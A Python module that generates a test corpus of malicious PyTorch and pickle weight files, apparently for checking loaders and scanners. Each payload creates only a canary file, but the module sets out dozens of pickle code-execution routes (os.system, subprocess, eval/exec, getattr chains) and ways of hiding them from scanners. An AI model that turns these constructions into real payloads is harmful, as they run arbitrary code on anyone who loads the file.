"""A corpus of malicious torch/pickle weight files; each one creates its canary file if run.

``build_corpus(folder)`` writes every case under ``folder`` and returns them; a case's payload,
executed by any loader, creates ``case.canary``, so "0 executed" is "no canary file exists".
Payloads are assembled opcode by opcode (:func:`assemble`): a pickle may name any importable
function, also ones the generating process could not pickle by reference. Containers: a bare
pickle (``.pt``/``.pth``/``.bin``/``.safetensors`` named), torch.save's zip archive with its
``data.pkl`` replaced, the legacy torch format with the payload as any of its five pickles, the
PyTorch 0.1 tar format, and real ``torch.save`` checkpoints with the payload hidden in a
nested state dict (zip and legacy).
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import tarfile
import warnings
import zipfile
from dataclasses import dataclass
from pathlib import Path

import torch
from torch import nn


@dataclass(frozen=True)
class G:
    """A global (module attribute) named in the pickle: ``c module\\nname\\n``."""

    module: str
    name: str


class Call:
    """``fn(*args)`` at unpickling time (REDUCE)."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args


def attr(obj, name: str) -> Call:
    return Call(G("builtins", "getattr"), obj, name)


def assemble(expr, *, protocol: int = 2, globals_as: str = "GLOBAL") -> bytes:
    """Pickle bytes that build ``expr`` (G, Call, str, int, bytes, list, tuple, dict, None).

    ``globals_as``: ``GLOBAL`` (``c`` opcode), ``STACK_GLOBAL`` (protocol 4: module and name
    pushed as strings) or ``STACK_GLOBAL_MEMO`` (the strings stored in and read from the memo).
    """
    out = bytearray()
    if protocol >= 2:
        out += bytes([0x80, protocol])
    memo: list[str] = []

    def string(s: str) -> None:
        data = s.encode("utf-8")
        if protocol >= 4 and len(data) < 256:
            out.extend(b"\x8c" + bytes([len(data)]) + data)  # SHORT_BINUNICODE
        elif protocol >= 1:
            out.extend(b"X" + struct.pack("<I", len(data)) + data)  # BINUNICODE
        else:
            out.extend(b"V" + s.encode("raw_unicode_escape") + b"\n")  # UNICODE

    def emit(e) -> None:
        if isinstance(e, G):
            if globals_as == "GLOBAL":
                out.extend(f"c{e.module}\n{e.name}\n".encode())
                return
            for part in (e.module, e.name):
                if globals_as == "STACK_GLOBAL_MEMO":
                    string(part)
                    out.extend(b"q" + bytes([len(memo)]))  # BINPUT
                    memo.append(part)
                    out.extend(b"0")  # POP
                    out.extend(b"h" + bytes([len(memo) - 1]))  # BINGET
                else:
                    string(part)
            out.extend(b"\x93")  # STACK_GLOBAL
        elif isinstance(e, Call):
            emit(e.fn)
            emit(tuple(e.args))
            out.extend(b"R")
        elif e is None:
            out.extend(b"N")
        elif isinstance(e, bool):
            out.extend(b"I01\n" if e else b"I00\n")
        elif isinstance(e, int):
            out.extend(f"I{e}\n".encode())
        elif isinstance(e, str):
            string(e)
        elif isinstance(e, bytes):
            out.extend(b"C" + bytes([len(e)]) + e if protocol >= 3 else
                       f"S{e.decode('latin-1')!r}\n".encode("latin-1"))
        elif isinstance(e, tuple):
            out.extend(b"(")
            for item in e:
                emit(item)
            out.extend(b"t")
        elif isinstance(e, list):
            out.extend(b"(")
            for item in e:
                emit(item)
            out.extend(b"l")
        elif isinstance(e, dict):
            out.extend(b"(")
            for key, value in e.items():
                emit(key)
                emit(value)
            out.extend(b"d")
        else:
            raise TypeError(f"cannot assemble {type(e).__name__}")

    emit(expr)
    out.extend(b".")
    return bytes(out)


def payloads(canary: str, benign: str) -> dict[str, object]:
    """Expressions that each create ``canary`` when unpickled (``benign``: an existing file)."""
    cmd, argv = f"touch {canary}", ["touch", canary]
    src = f"open({canary!r}, 'w').close()"
    imp = Call(G("builtins", "__import__"), "os")
    return {
        "os.system": Call(G("os", "system"), cmd),
        "posix.system": Call(G("posix", "system"), cmd),
        "os.popen": Call(G("os", "popen"), cmd),
        "os.spawnv": Call(G("os", "spawnv"), 0, "/usr/bin/touch", argv),  # P_WAIT
        "subprocess.call": Call(G("subprocess", "call"), argv),
        "subprocess.check_call": Call(G("subprocess", "check_call"), argv),
        "subprocess.run": Call(G("subprocess", "run"), argv),
        "subprocess.check_output": Call(G("subprocess", "check_output"), argv),
        "subprocess.Popen": Call(G("subprocess", "Popen"), argv),
        "subprocess.getoutput": Call(G("subprocess", "getoutput"), cmd),
        "builtins.eval": Call(G("builtins", "eval"), src),
        "builtins.exec": Call(G("builtins", "exec"), src),
        "__builtin__.eval": Call(G("__builtin__", "eval"), src),
        "builtins.open": Call(G("builtins", "open"), canary, "w"),
        "exec-compile": Call(G("builtins", "exec"),
                             Call(G("builtins", "compile"), src, "<x>", "exec")),
        "getattr(__import__)": Call(attr(imp, "system"), cmd),
        "getattr-chain-3": Call(attr(attr(Call(G("builtins", "__import__"), "subprocess"),
                                          "Popen"), "__call__"), argv),
        "getattr(builtins.__dict__)": Call(
            Call(attr(attr(Call(G("builtins", "__import__"), "builtins"), "__dict__"), "get"),
                 "eval"), src),
        "importlib.import_module": Call(attr(Call(G("importlib", "import_module"), "os"),
                                             "system"), cmd),
        "pip.main": Call(G("pip", "main"),
                         ["--log", canary, "--disable-pip-version-check", "list"]),
        "functools.partial": Call(Call(G("functools", "partial"), G("os", "system"), cmd)),
        "functools.partial-nested": Call(Call(G("functools", "partial"),
                                              Call(G("functools", "partial"),
                                                   G("builtins", "exec")), src)),
        "operator.methodcaller": Call(Call(G("operator", "methodcaller"), "system", cmd),
                                      Call(G("importlib", "import_module"), "os")),
        "operator.attrgetter": Call(Call(Call(G("operator", "attrgetter"), "system"), imp), cmd),
        "operator.call": Call(G("operator", "call"), G("os", "system"), cmd),
        "timeit.timeit": Call(G("timeit", "timeit"), src, "pass", G("time", "perf_counter"), 1),
        "cProfile.run": Call(G("cProfile", "run"), src),
        "code.InteractiveInterpreter": Call(
            attr(Call(G("code", "InteractiveInterpreter")), "runsource"), src),
        "numpy.runstring": Call(G("numpy.testing._private.utils", "runstring"), src, {}),
        "torch.save": Call(G("torch", "save"), {}, canary),
        "torch.serialization.save": Call(G("torch.serialization", "save"), [], canary),
        "shutil.copyfile": Call(G("shutil", "copyfile"), benign, canary),
        "pathlib.write_text": Call(attr(Call(G("pathlib", "Path"), canary), "write_text"), "x"),
        "copyreg._reconstructor": Call(G("copyreg", "_reconstructor"), G("subprocess", "Popen"),
                                       G("subprocess", "Popen"), argv),
        "reduce-in-reduce": Call(G("os", "system"),
                                 Call(attr("", "join"), ["touch ", canary])),
        "rebuild-tensor-wrapping": Call(G("torch._utils", "_rebuild_tensor_v2"),
                                        Call(G("os", "system"), cmd), 0, (1,), (1,), False,
                                        {}),
        "OrderedDict-value": Call(G("collections", "OrderedDict"),
                                  [("w", Call(G("os", "system"), cmd))]),
        "nested-dict-value": {"state_dict": {"conv.weight": Call(G("os", "system"), cmd)},
                              "epoch": 3},
    }


def _raw_specials(canary: str) -> dict[str, bytes]:
    """Opcode-level tricks that no expression above produces."""
    cmd = f"touch {canary}".encode()
    return {
        "INST-proto0": b"(V" + cmd + b"\nios\nsystem\n.",
        "OBJ-proto1": b"(cos\nsystem\nX" + struct.pack("<I", len(cmd)) + cmd + b"o.",
        "NEWOBJ-Popen": (b"\x80\x02csubprocess\nPopen\n"
                         + assemble((["touch", canary],), protocol=1)[:-1] + b"\x81."),
        "EXT1-registry": b"\x80\x02\x82\x01(X" + struct.pack("<I", len(cmd)) + cmd + b"tR.",
        "STACK_GLOBAL-computed-name": (
            b"\x80\x04\x8c\x02os" + b"\x8c\x08builtins\x8c\x03str\x93\x8c\x06system\x85R"
            + b"\x93\x8c" + bytes([len(cmd)]) + cmd + b"\x85R."),
        "memo-read-before-write": b"\x80\x02h\x05X\x02\x00\x00\x00hi\x85R.",
        "STOP-then-payload": (b"\x80\x02}q\x00." + b"\x80\x02cos\nsystem\nX"
                              + struct.pack("<I", len(cmd)) + cmd + b"\x85R."),
    }


@dataclass
class Case:
    name: str
    path: Path
    canary: Path


def _zip_with(pkl: bytes, *, extra: dict[str, bytes] | None = None,
              compress: bool = False, duplicate_first: bytes | None = None,
              root: str = "archive") -> bytes:
    """A torch.save zip archive of a small state dict whose data.pkl is ``pkl``."""
    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            name = root + "/" + info.filename.split("/", 1)[1]
            if name.endswith("data.pkl"):
                with warnings.catch_warnings():  # a duplicate name is the point
                    warnings.simplefilter("ignore")
                    if duplicate_first is not None:
                        dst.writestr(name, duplicate_first)
                    dst.writestr(name, pkl, compress_type=zipfile.ZIP_DEFLATED if compress
                                 else zipfile.ZIP_STORED)
            else:
                dst.writestr(name, src.read(info))
        for name, data in (extra or {}).items():
            dst.writestr(f"{root}/{name}", data)
    return out.getvalue()


def _legacy_with(pkl: bytes, position: int) -> bytes:
    """The legacy torch format (magic, protocol, sys info, object, storage keys) with ``pkl`` as
    pickle number ``position`` (0-4)."""
    parts = [pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2), pickle.dumps(1001, protocol=2),
             pickle.dumps({"protocol_version": 1001, "little_endian": True,
                           "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2),
             pickle.dumps({}, protocol=2), pickle.dumps([], protocol=2)]
    parts[position] = pkl
    return b"".join(parts)


def _tar_with(pkl: bytes, member: str = "pickle", first_name: str | None = None) -> bytes:
    """PyTorch 0.1's tar format (storages, tensors, pickle) with ``pkl`` as ``member``; an
    extra first member named ``first_name`` (a tar whose first bytes look like a pickle)."""
    members = {"storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
               "tensors": pickle.dumps(0, protocol=2), "pickle": pickle.dumps({}, protocol=2)}
    members[member] = pkl
    if first_name is not None:
        members = {first_name: pickle.dumps({}, protocol=2), **members}
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


class _Reduce:
    """An object that pickles as ``fn(*args)`` -- how real attacks hide in torch.save files."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args

    def __call__(self, *args):  # pickle wants a callable first item; never called here
        raise AssertionError("a payload must not run while the corpus is written")


def _hidden_in_checkpoints(canary: str) -> dict[str, object]:
    """Real training checkpoints (tensors, optimizer state) with a payload deep inside."""
    import builtins
    import functools
    import subprocess

    model = nn.Sequential(nn.Linear(4, 3), nn.ReLU(), nn.Linear(3, 2))
    state = model.state_dict()
    src = f"open({canary!r}, 'w').close()"
    evil = {
        "os.system": _Reduce(os.system, f"touch {canary}"),
        "eval": _Reduce(builtins.eval, src),
        "subprocess.call": _Reduce(subprocess.call, ["touch", canary]),
        "partial": _Reduce(_Reduce(functools.partial, builtins.exec, src)),
    }
    found = {}
    for key, payload in evil.items():
        found[f"state_dict-entry/{key}"] = {"state_dict": {**state, "2.bias": payload}}
        found[f"optimizer-state/{key}"] = {
            "model": state, "epoch": 7,
            "optimizer": {"state": {0: {"step": payload}}, "param_groups": [{"lr": 0.1}]}}
        found[f"deep-list/{key}"] = {"model": state, "history": [[{"loss": [1.0, payload]}]]}
    return found


def build_corpus(folder: str | Path) -> list[Case]:
    """Write every hostile file under ``folder``; each case's canary is ``folder/canary/NAME``."""
    folder = Path(folder)
    files, canaries = folder / "files", folder / "canary"
    files.mkdir(parents=True, exist_ok=True)
    canaries.mkdir(exist_ok=True)
    benign = folder / "benign.txt"
    benign.write_text("benign\n")
    cases: list[Case] = []

    def add(name: str, data: bytes, suffix: str = ".pt") -> None:
        safe = name.replace("/", "-").replace(".", "_").replace("(", "_").replace(")", "_")
        path = files / f"{len(cases):03d}-{safe}{suffix}"
        path.write_bytes(data)
        cases.append(Case(name, path, canaries / f"{len(cases):03d}"))

    def canary(i: int) -> str:
        return str(canaries / f"{i:03d}")

    for kind in payloads("", ""):  # each container's copy names its own canary
        for container in ("bare", "zip", "legacy"):
            pkl = assemble(payloads(canary(len(cases)), str(benign))[kind])
            data = {"bare": pkl, "zip": _zip_with(pkl), "legacy": _legacy_with(pkl, 3)}
            add(f"{container}/{kind}", data[container])

    def system_pickle(i: int, **kw) -> bytes:
        return assemble(Call(G("os", "system"), f"touch {canary(i)}"), **kw)

    for proto in (0, 1, 3, 4, 5):
        add(f"bare/os.system-protocol{proto}", system_pickle(len(cases), protocol=proto))
    for how in ("STACK_GLOBAL", "STACK_GLOBAL_MEMO"):
        add(f"bare/os.system-{how}", system_pickle(len(cases), protocol=4, globals_as=how))
        add(f"zip/os.system-{how}", _zip_with(system_pickle(len(cases), protocol=4,
                                                            globals_as=how)))
    for name in _raw_specials(""):
        add(f"bare/{name}", _raw_specials(canary(len(cases)))[name])
    for suffix in (".pth", ".bin", ".safetensors"):
        add(f"bare/os.system-as{suffix}", system_pickle(len(cases)), suffix)
    for position in (0, 1, 2, 4):
        add(f"legacy/os.system-pickle{position}", _legacy_with(system_pickle(len(cases)),
                                                               position))
    benign_pkl = assemble({})
    add("zip/deflated-data.pkl", _zip_with(system_pickle(len(cases)), compress=True))
    add("zip/duplicate-data.pkl-benign-first",
        _zip_with(system_pickle(len(cases)), duplicate_first=benign_pkl))
    add("zip/extra-member-pkl", _zip_with(benign_pkl,
                                          extra={"extra.pkl": system_pickle(len(cases))}))
    add("zip/other-root", _zip_with(system_pickle(len(cases)), root="model"))
    for member in ("pickle", "storages", "tensors"):
        add(f"tar/{member}-member", _tar_with(system_pickle(len(cases)), member))
    add("tar/0x80-first-member", _tar_with(system_pickle(len(cases)), first_name="\x80\x02x"))
    for name in _hidden_in_checkpoints(""):
        for legacy in (False, True):
            obj = _hidden_in_checkpoints(canary(len(cases)))[name]
            buf = io.BytesIO()
            torch.save(obj, buf, _use_new_zipfile_serialization=not legacy)
            add(f"{'legacy' if legacy else 'zip'}-torch.save/{name}", buf.getvalue())
    return cases


def executed(cases: list[Case]) -> list[str]:
    """Names of the cases whose canary exists: payloads that ran."""
    return [case.name for case in cases if case.canary.exists()]
